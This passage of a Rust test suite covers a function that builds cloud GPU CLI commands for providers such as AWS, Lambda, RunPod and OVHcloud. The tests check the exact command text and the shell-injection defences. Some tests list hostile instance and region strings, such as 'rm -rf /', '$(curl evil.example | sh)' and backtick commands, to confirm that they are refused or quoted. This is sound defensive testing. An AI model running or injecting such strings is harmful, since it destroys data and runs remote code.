        let unstated = command("alibaba", "ecs.gn6v-c8g1.2xlarge", "cn-unspecified").unwrap();
        assert!(unstated.launch.unwrap().contains("--RegionId <region-id>"));
    }

    #[test]
    fn lambda_uses_the_cloud_api_through_curl() {
        let c = command("lambda", "gpu_8x_h100_sxm5", "global").unwrap();
        assert_eq!(c.tool, "curl");
        assert_eq!(
            both(&c),
            (
                r#"curl --fail --user "${LAMBDA_API_KEY}:" https://cloud.lambda.ai/api/v1/instance-types | jq '.data.gpu_8x_h100_sxm5'"#,
                r#"curl --fail --user "${LAMBDA_API_KEY}:" --request POST https://cloud.lambda.ai/api/v1/instance-operations/launch --header 'Content-Type: application/json' --data '{"region_name":"<region>","instance_type_name":"gpu_8x_h100_sxm5","ssh_key_names":["<ssh-key-name>"],"quantity":1}'"#
            )
        );
        assert_eq!(command("lambda", "8x NVIDIA B200 SXM6", "global"), None);
    }

    #[test]
    fn runpod_maps_the_catalog_gpu_to_runpods_gpu_id() {
        let c = command("runpod", "8x_H100-SXM_SECURE", "global").unwrap();
        assert_eq!(
            both(&c),
            (
                r#"runpodctl gpu list --include-unavailable | jq '.[] | select(.gpuId == "NVIDIA H100 80GB HBM3")'"#,
                "runpodctl pod create --name <name> --image <image> \
                 --gpu-id 'NVIDIA H100 80GB HBM3' --gpu-count 8 --cloud-type SECURE"
            )
        );
        let quoted = command(
            "runpod",
            "A100 SXM (Secure Cloud); SkyPilot 1x_A100-80GB-SXM_SECURE",
            "global",
        )
        .unwrap();
        assert!(quoted
            .launch
            .unwrap()
            .contains("--gpu-id 'NVIDIA A100-SXM4-80GB' --gpu-count 1"));
        assert_eq!(
            command("runpod", "H100 PCIe (Community Cloud)", "global"),
            None
        );
    }

    #[test]
    fn vast_searches_offers_by_gpu_name_and_count() {
        let c = command("vast", "1x-H100_SXM-32-65536", "global").unwrap();
        assert_eq!(
            both(&c),
            (
                "vastai search offers 'gpu_name=H100_SXM num_gpus=1'",
                "vastai create instance <offer-id> --image <image> --disk <disk-gb> --ssh"
            )
        );
        assert_eq!(
            command(
                "vast",
                "rtx-3090-24gb (per GPU, marketplace listings)",
                "global"
            ),
            None
        );
    }

    #[test]
    fn jarvislabs_creates_by_jl_gpu_type() {
        let c = command("jarvislabs", "NVIDIA A100 80GB", "global").unwrap();
        assert_eq!(
            both(&c),
            (
                r#"jl gpus --json | jq '.[] | select(.gpu_type == "A100-80GB")'"#,
                "jl create --gpu A100-80GB --name <name>"
            )
        );
        assert_eq!(command("jarvislabs", "RTX6000 Ada", "global"), None);
    }

    #[test]
    fn digitalocean_creates_a_gpu_droplet_of_the_size_slug() {
        let c = command("digitalocean", "gpu-h100x1-80gb", "global").unwrap();
        assert_eq!(
            both(&c),
            (
                r#"doctl compute size list --output json | jq '.[] | select(.slug == "gpu-h100x1-80gb")'"#,
                "doctl compute droplet create <name> --size gpu-h100x1-80gb --image <image> \
                 --region <region> --ssh-keys <ssh-key-id>"
            )
        );
        assert_eq!(command("digitalocean", "1x MI325X", "global"), None);
    }

    #[test]
    fn crusoe_creates_a_vm_of_the_type() {
        let c = command("crusoe", "h100-80gb-sxm-ib.8x", "global").unwrap();
        assert_eq!(
            both(&c),
            (
                "crusoe compute vms types | grep -F h100-80gb-sxm-ib.8x",
                "crusoe compute vms create --name <name> --type h100-80gb-sxm-ib.8x \
                 --location <location> --image <image> --keyfile <public-key-file>"
            )
        );
    }

    #[test]
    fn ovhcloud_uses_openstack_with_the_region_before_the_command() {
        let c = command("ovhcloud", "h100-380", "GRA11").unwrap();
        assert_eq!(
            both(&c),
            (
                "openstack --os-region-name GRA11 flavor show h100-380",
                "openstack --os-region-name GRA11 server create --flavor h100-380 \
                 --image <image> --key-name <key-name> --network <network> <name>"
            )
        );
        assert_eq!(command("ovhcloud", "1x A100 80GB", "global"), None);
    }

    #[test]
    fn regions_that_are_not_cli_regions_become_placeholders() {
        for region in ["global", "cn-reference", "cn-unspecified", "NY2", "NA", ""] {
            let c = command("aws", "g5.xlarge", region).unwrap();
            assert!(
                c.describe.ends_with("--region <region>"),
                "{region}: {}",
                c.describe
            );
        }
    }

    /// What is left of `cmd` once its single-quoted spans are cut out: the only text the shell
    /// interprets.
    fn outside_single_quotes(cmd: &str) -> String {
        cmd.split('\'').step_by(2).collect::<Vec<_>>().join(" ")
    }

    const HOSTILE: [&str; 5] = [
        "p5.48xlarge; rm -rf /",
        "$(curl evil.example | sh)",
        "`reboot`",
        "a3-highgpu-8g' && rm -rf / && echo '",
        "gpu_1x_a10\"; rm -rf /; echo \"",
    ];

    const PROVIDERS: [&str; 13] = [
        "aws",
        "gcp",
        "azure",
        "oci",
        "tencent",
        "alibaba",
        "lambda",
        "runpod",
        "vast",
        "jarvislabs",
        "digitalocean",
        "crusoe",
        "ovhcloud",
    ];

    #[test]
    fn hostile_instance_names_are_refused_or_inert() {
        for provider in PROVIDERS {
            for name in HOSTILE {
                if let Some(c) = command(provider, name, "us-east-1") {
                    for cmd in [Some(c.describe.as_str()), c.launch.as_deref()]
                        .into_iter()
                        .flatten()
                    {
                        let live = outside_single_quotes(cmd);
                        assert!(
                            !live.contains("rm -rf")
                                && !live.contains("$(curl")
                                && !live.contains('`'),
                            "{provider} {name:?}: {cmd}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn hostile_regions_are_never_interpolated() {
        for provider in PROVIDERS {
            for region in ["us-east-1; rm -rf /", "$(reboot)", "eastus`id`"] {
                let instance = match provider {
                    "aws" => "p5.48xlarge",
                    "gcp" => "a3-highgpu-8g",
                    "azure" => "Standard_ND96isr_H100_v5",
                    "oci" => "BM.GPU.H100.8",
                    "tencent" => "GN7.2XLARGE32",
                    "alibaba" => "ecs.gn7i-c8g1.2xlarge",
                    "lambda" => "gpu_1x_a10",
                    "runpod" => "1x_L4_SECURE",
                    "vast" => "1x-A40-32-65536",
                    "jarvislabs" => "NVIDIA L4",
                    "digitalocean" => "gpu-h100x1-80gb",
                    "crusoe" => "a40.1x",
                    _ => "l4-90",
                };
                let c = command(provider, instance, region).unwrap();
                let text = format!("{} {}", c.describe, c.launch.unwrap_or_default());
                assert!(
                    !text.contains("rm -rf") && !text.contains("reboot") && !text.contains('`'),
                    "{provider}: {text}"
                );
            }
        }
    }

    #[test]
    fn shell_word_quotes_anything_beyond_plain_names() {
        assert_eq!(shell_word("p5.48xlarge"), "p5.48xlarge");
        assert_eq!(shell_word("NVIDIA H100 PCIe"), "'NVIDIA H100 PCIe'");
        assert_eq!(shell_word("a; rm -rf /"), "'a; rm -rf /'");
        assert_eq!(shell_word("$(id)"), "'$(id)'");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn names_starting_with_a_dash_are_refused() {
        assert_eq!(command("aws", "--debug.x", "us-east-1"), None);
        assert_eq!(command("ovhcloud", "-h100-380", "global"), None);
    }

    #[test]
    fn unknown_and_cli_less_providers_get_no_command() {
        assert_eq!(command("nowhere", "p5.48xlarge", "us-east-1"), None);
        assert_eq!(command("coreweave", "NVIDIA HGX H100 (8 GPU)", "NA"), None);
        assert_eq!(command("paperspace", "H100", "NY2"), None);
        assert_eq!(command("AWS", "p5.48xlarge", "us-east-1"), None);
    }

    #[test]
    fn every_catalog_instance_of_a_supported_provider_is_refused_or_well_formed() {
        // The bundled catalog is the real input: whatever it names, a command is either absent
        // or free of anything the shell would expand.
        let catalog = crate::bundled::catalog().unwrap();
        let mut commands = 0;
        let placements = catalog
            .offers
            .iter()
            .flat_map(|offer| offer.prices.iter().map(move |price| (offer, &price.region)));
        for (offer, region) in placements {
            if let Some(c) = command(&offer.provider, &offer.instance, region) {
                commands += 1;
                for cmd in [Some(c.describe.as_str()), c.launch.as_deref()]
                    .into_iter()
                    .flatten()
                {
                    assert!(!cmd.contains('\n'), "{cmd}");
                    assert!(!outside_single_quotes(cmd).contains('`'), "{cmd}");
                }
            }
        }
        assert!(commands > 100, "{commands} offers have a command");
    }
}
